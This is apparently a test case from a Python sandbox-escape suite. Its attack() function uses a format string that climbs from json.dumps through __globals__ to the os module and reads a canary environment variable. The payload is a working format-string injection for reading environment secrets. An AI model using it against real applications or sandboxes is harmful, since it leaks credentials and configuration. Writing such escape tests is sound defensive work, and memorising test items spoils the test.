"""No app reads attributes by the library"s formatter."""

CLASS = "format"
BOUNDARY = "both"
NEEDS = ("string", "json")


import json
import string


def attack():
    text = "{0.__globals__[codecs].sys.modules[os].environ[VAAS_CANARY]}"
    return "ESCAPED: " + string.Formatter().format(text, json.dumps)
